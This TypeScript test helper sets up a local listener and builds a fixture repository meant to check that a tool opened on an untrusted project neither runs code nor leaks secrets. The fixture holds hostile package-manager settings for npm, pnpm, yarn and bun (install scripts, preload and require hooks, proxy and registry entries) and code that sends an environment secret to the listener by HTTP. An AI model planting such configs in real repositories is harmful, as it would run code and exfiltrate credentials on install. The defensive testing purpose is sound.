import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** What a test finds out about a repository that would like to run code and to learn secrets. */
export interface Trap {
  /** A file that appears when anything of the repository is run. */
  readonly marker: string;
  /** An address on this machine that is told of by the repository. Ends in `/`. */
  readonly url: string;
  /** Each request there: its address, headers and body. */
  readonly heard: string[];
  close(): Promise<void>;
}

export async function setTrap(marker: string): Promise<Trap> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    let body = "";
    request.setEncoding("utf8").on("data", (text: string) => (body += text));
    request.on("end", () => {
      heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
      response.writeHead(404).end("{}");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a server that listens on a port has such an address
  const { port } = server.address() as AddressInfo;
  return {
    marker,
    url: `http://127.0.0.1:${port}/`,
    heard,
    close: () =>
      new Promise((resolve, reject) => {
        server.close((error) => (error === undefined ? resolve() : reject(error)));
        server.closeAllConnections();
      }),
  };
}

export const secret = "a-secret-of-this-process";

const scripts = [
  "preinstall",
  "install",
  "postinstall",
  "prepare",
  "prepublish",
  "pnpm:devPreinstall",
  "preprepare",
];

/** A repository with `more` as its own manifest, and every file and setting by which a package manager can be made to run code. */
export function hostileRepository(
  { marker, url }: Trap,
  more: Readonly<Record<string, unknown>>,
): Record<string, string> {
  const touch = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "")`;
  const ask = `require("node:http").get(${JSON.stringify(url)} + (process.env.SECRET || "nothing"))`;
  const code = `${ask}; ${touch}; module.exports = {};\n`;
  return {
    "package.json": JSON.stringify({
      name: "hostile",
      version: "1.0.0",
      scripts: Object.fromEntries(scripts.map((name) => [name, `touch ${marker}`])),
      pnpm: { executionEnv: { nodeVersion: "22.0.0" }, requiredScripts: ["install"] },
      ...more,
    }),
    ".npmrc": [
      "script-shell=./evil.sh",
      "shell=./evil.sh",
      "node-options=--require ./evil.cjs",
      "git=./evil.sh",
      "global-pnpmfile=evil.cjs",
      "pnpmfile=evil.cjs",
      "unsafe-perm=true",
      "ignore-scripts=false",
      "use-node-version=22.0.0",
      `@evil:registry=${url}$\{SECRET}/`,
      `//${new URL(url).host}/:_authToken=$\{SECRET}`,
      `//${new URL(url).host}/:tokenHelper=./evil.sh`,
      `https-proxy=${url}`,
      `proxy=${url}`,
      "",
    ].join("\n"),
    ".yarnrc.yml": `enableScripts: true
yarnPath: ./evil.cjs
plugins:
  - ./evil.cjs
  - { path: ./evil.cjs, spec: "${url}plugin.js" }
injectEnvironmentFiles: [.env.yarn]
httpsProxy: "${url}"
telemetryInterval: 0
initFields: {}
`,
    "bunfig.toml": `preload = ["./evil.cjs"]
[install]
globalDir = "."
[install.scopes]
evil = { url = "${url}$SECRET/", token = "$SECRET" }
[install.security]
scanner = "./evil.cjs"
[run]
shell = "./evil.sh"
bun = true
`,
    ".env": `HTTP_PROXY=${url}\nBUN_CONFIG_REGISTRY=${url}\nNODE_OPTIONS=--require ./evil.cjs\n`,
    ".yarnrc": `yarn-path "./evil.cjs"\nregistry "${url}$\{SECRET}"\n`,
    ".env.yarn": "NODE_OPTIONS=--require ./evil.cjs\n",
    ".pnp.cjs": code,
    "evil.cjs": code,
    "evil.sh": `#!/bin/sh\ntouch ${marker}\n`,
    "binding.gyp": "{}",
    "node_modules/.hooks/install": `#!/bin/sh\ntouch ${marker}\n`,
  };
}
